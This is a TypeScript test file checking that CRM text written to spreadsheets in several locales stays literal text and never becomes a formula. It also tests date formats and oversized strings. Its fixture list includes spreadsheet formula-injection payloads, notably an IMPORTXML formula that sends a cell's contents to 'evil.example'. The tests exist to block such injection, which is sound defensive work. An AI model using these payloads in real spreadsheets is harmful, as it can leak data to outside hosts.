import fc from 'fast-check';
import { day, linesIn, ofDay, reportRow, tableIn } from './sheetHarness';

const NASTY = [
  '=1+1',
  '=IMPORTXML("http://evil.example/?"&A1;"//a")',
  '=HYPERLINK("http://evil.example";"жми")',
  '+7 900 000-00-00',
  '+сделка',
  '-5',
  '- пункт',
  '@имя',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'в апострофе'",
  "''",
  '"кавычка',
  '12.11',
  '12.11.2026',
  '2026-11-18',
  '1,5',
  '007',
  '1E5',
  '50%',
  '3:00',
  '1/2',
  '$5',
  'TRUE',
  'ИСТИНА',
  'wahr',
  '#REF!',
  'https://example.com',
  '\u202Eслева направо\u202C',
  '\u200Fעברית',
  '🙂👩‍👩‍👧',
  'é ё й',
  ' пробел впереди',
  'пробел сзади ',
  'a\u0000b',
];

describe.each(['ru_RU', 'en_US', 'de_DE', 'kk_KZ'])(
  'S8 S9 · texts of the CRM in a %s spreadsheet',
  locale => {
    it.each(['General', '@'])(
      'are shown as they are, and are equal when read back (cells formatted %s)',
      format => {
        const world = tableIn('report', { locale });
        world.user.formatColumn(world.model.title, 2, format);
        const rows = NASTY.map((event, index) => reportRow(10, event, index));
        world.table.replace(ofDay(10, rows));
        expect(world.table.read()).toEqual(rows);
        expect(world.model.rows.flatMap(row => row ?? []).filter(cell => cell?.formula)).toEqual([]);
        world.calls.length = 0;
        world.table.replace(ofDay(10, rows));
        expect(world.calls.filter(call => /\.(set|insert|delete)/.test(call))).toEqual([]);
      },
    );

    it('dates and numbers are dates and numbers, shown by their format', () => {
      const world = tableIn('report', { locale });
      world.table.replace(
        ofDay(10, [{ ...reportRow(10, 'a', 1200), peakMs: 1050, peakTime: day(10) + 0.25 }]),
      );
      expect(world.model.rows[1]!.slice(0, 5).map(cell => cell!.value)).toEqual([
        day(10),
        'a',
        1200,
        1050,
        day(10) + 0.25,
      ]);
      expect(world.workbook.display(world.model.title)[1]).toEqual([
        '10.11.2026',
        'a',
        '1200',
        '1050',
        '06:00',
      ]);
    });

    it('columns that the user has formatted as text: old days stay known, new ones are dates again', () => {
      const world = tableIn('report', { locale });
      world.table.replace(ofDay(10, [reportRow(10, 'a', 5)]));
      for (const column of [1, 3, 4, 5]) world.user.formatColumn(world.model.title, column, '@');
      expect(world.model.cell(2, 1)!.value).toBe('10.11.2026');
      expect(world.table.read()[0]!.date).toBe(day(10));
      world.table.replace(ofDay(11, [reportRow(11, 'b', 7)]));
      world.table.replace(ofDay(10, [reportRow(10, 'a', 6)]));
      expect(linesIn(world)).toEqual([`${day(10)}|a|6`, `${day(11)}|b|7`]);
      expect(world.workbook.display(world.model.title)[2]!.slice(0, 3)).toEqual(['11.11.2026', 'b', '7']);
    });
  },
);

describe('S9 · texts that no cell can hold', () => {
  it.each([
    ['more than 50,000 characters', 'я'.repeat(60_000)],
    ['more than 50,000 after an equals sign', `=${'a'.repeat(60_000)}`],
    ['a lone surrogate', 'до \uD83D после'],
    ['a pair cut in two by the limit', `${'x'.repeat(49_997)}🙂🙂`],
  ])('%s: written once, and known again', (_, event) => {
    const world = tableIn('report');
    const rows = [reportRow(10, event), reportRow(10, 'b')];
    world.table.replace(ofDay(10, rows));
    const lines = linesIn(world);
    world.calls.length = 0;
    world.table.replace(ofDay(10, rows));
    expect(world.calls.filter(call => call.includes('.set'))).toEqual([]);
    expect(linesIn(world)).toEqual(lines);
    expect(lines).toHaveLength(2);
  });

  it('any text at all, in any cell format, stands once', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 30 }),
        fc.constantFrom('General', '@', '0', 'dd.mm.yyyy'),
        (event, format) => {
          const world = tableIn('report');
          world.user.formatColumn('Лист1', 2, format);
          world.table.replace(ofDay(10, [reportRow(10, event), reportRow(10, event)]));
          world.table.append([reportRow(10, event)]);
          expect(world.table.read()).toHaveLength(3);
          expect(world.model.cell(2, 2)?.formula ?? '').toBe('');
        },
      ),
      { numRuns: 150 },
    );
  });
});

describe('S8 · a time that the clocks of the spreadsheet skip', () => {
  it('is written once, though it reads back an hour off', () => {
    const world = tableIn('log', { timeZone: 'Europe/Berlin' });
    const skipped = Date.UTC(2026, 2, 29, 2, 30);
    const when = (skipped - Date.UTC(1899, 11, 30)) / 86_400_000;
    const row = { when, job: 'a', level: 'INFO', what: 'x', effect: '', todo: '', seconds: 1, requests: 2 };
    world.table.append([row, row]);
    expect(world.table.read()).toHaveLength(2);
    expect(world.model.cell(2, 1)!.value).toBe(when);
  });
});
